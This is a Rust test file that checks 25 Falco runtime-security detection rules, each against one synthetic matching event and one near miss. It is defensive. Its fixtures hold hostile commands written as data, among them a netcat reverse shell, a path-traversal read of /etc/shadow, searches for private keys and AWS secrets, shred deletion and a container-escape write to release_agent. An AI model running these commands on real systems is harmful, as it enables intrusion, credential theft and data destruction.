//! Each of the 25 rules of Falco's falco_rules.yaml, loaded unmodified, against one event that
//! must fire it and one near miss that must not, built as the capture side would report them.

use std::path::PathBuf;
use std::sync::OnceLock;

use super::testkit::*;
use super::*;
use crate::event::{ArgValue, EventType, L4Proto};

fn engine() -> &'static Engine {
    static E: OnceLock<Engine> = OnceLock::new();
    E.get_or_init(|| {
        let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("../../shared/falco-rules/falco_rules.yaml");
        let opts = LoadOptions {
            rule_matching: RuleMatching::All,
        };
        match Engine::load(&[path], &opts) {
            Ok((e, _)) => e,
            Err(e) => panic!("falco_rules.yaml does not load: {e}"),
        }
    })
}

fn fired(ev: &Event) -> Vec<String> {
    let mut out = Vec::new();
    engine().evaluate(ev, &mut out);
    out.iter()
        .map(|i| engine().rules()[*i].name.to_string())
        .collect()
}

/// `hit` fires `rule`; `miss` does not.
fn check(rule: &str, hit: Ev, miss: Ev) {
    assert!(
        engine().rules().iter().any(|r| &*r.name == rule),
        "no rule named {rule}"
    );
    let hit = hit.build();
    let got = fired(&hit);
    assert!(
        got.iter().any(|r| r == rule),
        "{rule} did not fire on {hit:#?}; fired: {got:?}"
    );
    let miss = miss.build();
    let got = fired(&miss);
    assert!(
        !got.iter().any(|r| r == rule),
        "{rule} fired on the near miss {miss:#?}"
    );
}

const WEB: &[(&str, &str, &[&str])] = &[
    ("apache2", "/usr/sbin/apache2", &["-k", "start"]),
    ("systemd", "/usr/lib/systemd/systemd", &[]),
];

#[test]
fn directory_traversal_monitored_file_read() {
    let php = |raw: &str| {
        Ev::open("/etc/shadow", 0)
            .raw(raw)
            .with_proc(|p| p.name = "php".into())
            .parents(WEB)
    };
    check(
        "Directory traversal monitored file read",
        php("../../../../../etc/shadow"),
        php("/etc/shadow"),
    );
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    let nginx = |started_ns_ago: u64| {
        Ev::open("/etc/shadow", 0).with_proc(|p| {
            p.name = "nginx".into();
            p.exepath = "/usr/sbin/nginx".into();
            p.start_ts = 1_700_000_100_000_000_000 - started_ns_ago;
        })
    };
    check(
        "Read sensitive file trusted after startup",
        nginx(3_600_000_000_000),
        nginx(1_000_000_000),
    );
}

#[test]
fn read_sensitive_file_untrusted() {
    let by = |name: &str| {
        let name = name.to_string();
        Ev::open("/etc/shadow", 0).with_proc(move |p| p.name = name)
    };
    check("Read sensitive file untrusted", by("cat"), by("passwd"));
}

#[test]
fn run_shell_untrusted() {
    let shell_under = |parent: &'static str| {
        Ev::exec("/bin/bash", &["-c", "id"]).parents(&[
            (parent, "/usr/sbin/x", &[]),
            ("systemd", "/usr/lib/systemd/systemd", &[]),
        ])
    };
    check(
        "Run shell untrusted",
        shell_under("nginx"),
        shell_under("sshd"),
    );
}

#[test]
fn system_user_interactive() {
    check(
        "System user interactive",
        Ev::exec("/usr/bin/ls", &["-la"]).user(33, "www-data"),
        Ev::exec("/usr/bin/ls", &["-la"]).user(1000, "alice"),
    );
}

#[test]
fn terminal_shell_in_container() {
    let shell = |tty: u32| {
        Ev::exec("/bin/bash", &[])
            .container("nginx")
            .tty(tty)
            .parents(&[("runc", "/usr/bin/runc", &["init"])])
    };
    check("Terminal shell in container", shell(34816), shell(0));
}

#[test]
fn contact_k8s_api_server_from_container() {
    // The API server's name resolves only inside a cluster: set it as /etc/hosts would.
    dns::set_static(
        "kubernetes.default.svc.cluster.local",
        &["10.96.0.1".parse().expect("ip")],
    );
    let connect = |ip: &str| {
        Ev::socket_fd(
            EventType::Connect,
            ("172.17.0.2", 40000),
            (ip, 443),
            L4Proto::Tcp,
        )
        .container("myapp")
        .with_proc(|p| p.name = "curl".into())
    };
    check(
        "Contact K8S API Server From Container",
        connect("10.96.0.1"),
        connect("10.96.0.2"),
    );
}

#[test]
fn netcat_remote_code_execution_in_container() {
    check(
        "Netcat Remote Code Execution in Container",
        Ev::exec("/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"]).container("alpine"),
        Ev::exec("/usr/bin/nc", &["-z", "10.0.0.1", "80"]).container("alpine"),
    );
}

#[test]
fn search_private_keys_or_passwords() {
    check(
        "Search Private Keys or Passwords",
        Ev::exec("/usr/bin/find", &["/", "-name", "id_rsa"]),
        Ev::exec("/usr/bin/find", &["/", "-name", "*.log"]),
    );
}

#[test]
fn clear_log_activities() {
    check(
        "Clear Log Activities",
        Ev::open("/var/log/syslog", O_WRONLY | O_TRUNC),
        Ev::open("/var/log/syslog", O_WRONLY | 0o2000),
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    check(
        "Remove Bulk Data from Disk",
        Ev::exec("/usr/bin/shred", &["-u", "/data/db"]),
        Ev::exec("/usr/bin/rm", &["-rf", "/data/db"]),
    );
}

#[test]
fn create_symlink_over_sensitive_files() {
    let link = |target: &str| {
        Ev::new(EventType::Symlinkat)
            .arg("target", ArgValue::Path(target.into()))
            .arg("linkdirfd", ArgValue::Fd(-100))
            .arg("linkpath", ArgValue::Path("/tmp/x".into()))
    };
    check(
        "Create Symlink Over Sensitive Files",
        link("/etc/shadow"),
        link("/tmp/y"),
    );
}

#[test]
fn create_hardlink_over_sensitive_files() {
    let link = |old: &str| {
        Ev::new(EventType::Linkat)
            .arg("olddir", ArgValue::Fd(-100))
            .arg("oldpath", ArgValue::Path(old.into()))
            .arg("newdir", ArgValue::Fd(-100))
            .arg("newpath", ArgValue::Path("/tmp/s".into()))
    };
    check(
        "Create Hardlink Over Sensitive Files",
        link("/etc/shadow"),
        link("/etc/hosts"),
    );
}

#[test]
fn packet_socket_created_in_container() {
    let sock = |domain: i64| {
        Ev::new(EventType::Socket)
            .res(3)
            .arg(
                "domain",
                ArgValue::Enum {
                    raw: domain,
                    names: SOCKET_DOMAINS,
                },
            )
            .container("alpine")
    };
    check("Packet socket created in container", sock(17), sock(2));
}

#[test]
fn redirect_stdout_stdin_to_network_connection_in_container() {
    let dup = |res: i64| {
        Ev::socket_fd(
            EventType::Dup2,
            ("172.17.0.2", 40000),
            ("203.0.113.7", 4444),
            L4Proto::Tcp,
        )
        .res(res)
        .container("alpine")
    };
    check(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        dup(1),
        dup(5),
    );
}

#[test]
fn linux_kernel_module_injection_detected() {
    let load = || {
        Ev::new(EventType::FinitModule)
            .arg("fd", ArgValue::Fd(3))
            .with_proc(|p| {
                p.name = "insmod".into();
                p.cap_effective = CAP_SYS_MODULE;
            })
    };
    check(
        "Linux Kernel Module Injection Detected",
        load().container("alpine"),
        load(),
    );
}

#[test]
fn debugfs_launched_in_privileged_container() {
    check(
        "Debugfs Launched in Privileged Container",
        Ev::exec("/sbin/debugfs", &["/dev/sda1"])
            .container("alpine")
            .privileged(),
        Ev::exec("/sbin/debugfs", &["/dev/sda1"]).container("alpine"),
    );
}

#[test]
fn detect_release_agent_file_container_escapes() {
    let open = |caps: u64| {
        Ev::open("/sys/fs/cgroup/rdma/release_agent", O_WRONLY)
            .container("alpine")
            .with_proc(move |p| p.cap_effective = caps)
    };
    check(
        "Detect release_agent File Container Escapes",
        open(CAP_SYS_ADMIN | CAP_DAC_OVERRIDE),
        open(CAP_DAC_OVERRIDE),
    );
}

fn ptrace(request: i64) -> Ev {
    Ev::new(EventType::Ptrace)
        .arg(
            "request",
            ArgValue::Enum {
                raw: request,
                names: PTRACE_REQUESTS,
            },
        )
        .arg("pid", ArgValue::Pid(4242))
        .with_proc(|p| p.name = "gdb".into())
}

#[test]
fn ptrace_attached_to_process() {
    check("PTRACE attached to process", ptrace(16), ptrace(1));
}

#[test]
fn ptrace_anti_debug_attempt() {
    check("PTRACE anti-debug attempt", ptrace(0), ptrace(16));
}

#[test]
fn find_aws_credentials() {
    check(
        "Find AWS Credentials",
        Ev::exec("/usr/bin/grep", &["-r", "aws_secret_access_key", "/home"]),
        Ev::exec("/usr/bin/grep", &["-r", "hello", "/home"]),
    );
}

#[test]
fn execution_from_dev_shm() {
    check(
        "Execution from /dev/shm",
        Ev::exec("/dev/shm/payload", &[]),
        Ev::exec("/usr/bin/payload", &[]),
    );
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let run = |upper: bool| {
        Ev::exec("/tmp/miner", &[])
            .container("alpine")
            .with_proc(move |p| p.exe_upper_layer = upper)
    };
    check(
        "Drop and execute new binary in container",
        run(true),
        run(false),
    );
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    let ssh = |port: u16| {
        Ev::socket_fd(
            EventType::Connect,
            ("192.168.1.5", 50000),
            ("203.0.113.7", port),
            L4Proto::Tcp,
        )
        .res(-115)
        .with_proc(|p| {
            p.name = "ssh".into();
            p.exe = "/usr/bin/ssh".into();
            p.exepath = "/usr/bin/ssh".into();
        })
    };
    check(
        "Disallowed SSH Connection Non Standard Port",
        ssh(443),
        ssh(22),
    );
}

#[test]
fn fileless_execution_via_memfd_create() {
    let run = |name: &'static str| {
        Ev::exec("memfd:payload", &[]).with_proc(move |p| {
            p.name = name.into();
            p.exe_from_memfd = true;
        })
    };
    check(
        "Fileless execution via memfd_create",
        run("payload"),
        run("runc"),
    );
}

#[test]
fn every_stable_rule_has_a_test() {
    let src = include_str!("stable_rules_tests.rs");
    let missing: Vec<_> = engine()
        .rules()
        .iter()
        .filter(|r| !src.contains(&format!("\"{}\"", r.name)))
        .map(|r| r.name.to_string())
        .collect();
    assert!(
        missing.is_empty(),
        "stable rules without a test: {missing:?}"
    );
}
